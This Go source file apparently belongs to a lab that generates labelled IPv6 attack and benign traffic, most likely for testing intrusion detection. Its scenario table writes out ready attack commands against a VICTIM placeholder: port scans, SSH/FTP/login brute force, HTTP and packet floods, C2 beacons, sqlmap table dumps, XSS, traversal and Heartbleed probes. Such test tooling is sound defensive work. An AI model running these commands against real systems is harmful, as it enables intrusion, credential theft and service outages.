package lab

import (
	"context"
	"fmt"
	"time"

	"firetower/internal/attack"
)

// overIPv6: attacks with the tools that know it, in networks that have both.
func overIPv6() []Scenario {
	row := func(name string, class attack.Class, near bool, play func(ctx context.Context, r *Run) error, also ...attack.Class) Scenario {
		return Scenario{Name: "v6-" + name, Class: class, Also: also, Limit: 50 * time.Second, Near: near, Setting: Setting{V6: true}, Play: play}
	}
	with := func(f func(context.Context, *Run, string) error, line string) func(context.Context, *Run) error {
		return func(ctx context.Context, r *Run) error { return f(ctx, r, line) }
	}
	service := func(name, line string) func(context.Context, *Run) error {
		return func(ctx context.Context, r *Run) error { return guess(ctx, r, name, line) }
	}
	return []Scenario{
		row("nmap-syn", attack.PortScan, false, with(scanHost, "nmap -6 -n -Pn -sS TIMING --top-ports PORTS VICTIM")),
		row("nmap-connect", attack.PortScan, false, with(scanHost, "nmap -6 -n -Pn -sT TIMING --top-ports PORTS VICTIM")),
		row("nmap-udp", attack.PortScan, false, with(scanHost, "nmap -6 -n -Pn -sU -T4 --max-retries 1 --top-ports 60 VICTIM")),
		row("nmap-slow", attack.PortScan, false, with(scanHost, "nmap -6 -n -Pn -sS --scan-delay DELAYms --max-retries 0 --top-ports 25 VICTIM")),
		row("nc-scan", attack.PortScan, false, with(scanHost, "nc -6 -nvz -w 1 VICTIM 1-200")),
		row("sweep", attack.PortScan, false, with(sweep, "nmap -6 -n -Pn -sS -T4 --max-retries 0 -p ONEPORT CROWD6")),
		row("hydra-ssh", attack.BruteForce, false, service("ssh", "hydra -6 -I -t TASKS -l USER -P WORDS ssh://VICTIM")),
		row("ssh-loop", attack.BruteForce, false, service("ssh", "while read p; do sshpass -p $p ssh "+sshOptions+" -o NumberOfPasswordPrompts=1 USER@VICTIM true; done < WORDS")),
		row("hydra-ftp", attack.BruteForce, false, service("ftp", "hydra -6 -I -t TASKS -l USER -P WORDS ftp://VICTIM")),
		row("ffuf-form", attack.BruteForce, false, service("web", "ffuf -s -t TASKS -p 0.2 -w WORDS -u http://VICTIM/login -X POST -H 'Content-Type: application/x-www-form-urlencoded' -d 'user=USER&password=FUZZ' -fr Wrong"), attack.WebAttack),
		row("slow-headers", attack.DoS, false, with(floodOne, "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"), attack.DDoS),
		row("ab", attack.DoS, true, with(floodOne, "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"), attack.DDoS),
		row("hulk", attack.DoS, true, with(floodOne, "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"), attack.DDoS),
		row("nping-syn", attack.DoS, true, with(floodOne, "timeout SECS nping -6 --tcp --flags syn -p 80 --rate 900 -c 0 -N -q VICTIM"), attack.DDoS),
		row("nping-udp", attack.DoS, true, with(floodOne, "timeout SECS nping -6 --udp -p 53 --data-length 400 --rate 900 -c 0 -N -q VICTIM"), attack.DDoS),
		row("ping-flood", attack.DoS, true, with(floodOne, "timeout SECS ping -6 -q -f -s SIZE VICTIM"), attack.DDoS),
		row("beacon-http", attack.Bot, false, with(call, "SELF beacon -url http://C2/beat -every SHORT -for 45s -jitter JITTER")),
		row("beacon-https", attack.Bot, false, with(call, "SELF beacon -url https://C2/beat -every SHORT -for 45s -jitter JITTER")),
		row("sqlmap", attack.WebAttack, false, with(strike, "sqlmap --batch --flush-session --disable-coloring AGENT --threads THREADS -u 'http://VICTIM/item?id=ID' --dump -T users")),
		row("xss", attack.WebAttack, false, with(strike, "SELF probe -url http://VICTIM/search?q= -kind xss -count COUNT -every EVERY")),
		row("traversal", attack.WebAttack, false, with(strike, "SELF probe -url http://VICTIM/file?name= -kind traversal -count COUNT -every EVERY")),
		row("heartbleed", attack.Heartbleed, false, with(readMemory, "SELF heartbeat -to VICTIM:PORT -reads READS -size SIZE -every 500ms")),
		row("nmap-heartbleed", attack.Heartbleed, false, with(readMemory, "nmap -6 -n -Pn -p PORT --script ssl-heartbleed VICTIM"), attack.PortScan),
		row("life", attack.Benign, false, life6),
		row("neighbours", attack.Benign, false, func(ctx context.Context, r *Run) error {
			// Everybody looks for everybody, some of whom are gone.
			r.each(ctx, func(ctx context.Context, h *Host, r *Run) {
				r.repeat(ctx, time.Second, func() {
					h.Shell(ctx, "ping -6 -c 2 -i 0.3 -W 1 %s; ping -6 -c 1 -W 1 %s", r.People[r.IntN(len(r.People))].V6, map6(inside6, r.At(byte(r.between(60, 99)))))
				})
			})
			return nil
		}),
	}
}

// life6 is office life to the sites that answer over IPv6.
func life6(ctx context.Context, r *Run) error {
	r.each(ctx, func(ctx context.Context, h *Host, r *Run) {
		r.repeat(ctx, time.Second, func() {
			switch r.IntN(4) {
			case 0, 1:
				r.browse(ctx, h, r.Rand, fmt.Sprintf("%s://[%s]/", r.pick("http", "https"), r.News.V6))
			case 2:
				r.browse(ctx, h, r.Rand, fmt.Sprintf("http://[%s]/", r.Shop.V6))
			default:
				h.Shell(ctx, "sshpass -p '%s' ssh %s %s@%s 'ls -l /usr/bin | head -%d; sleep 2; uptime'", Users[0].Password, sshOptions, Users[0].Name, r.Files.V6, r.between(10, 900))
			}
		})
	})
	return nil
}
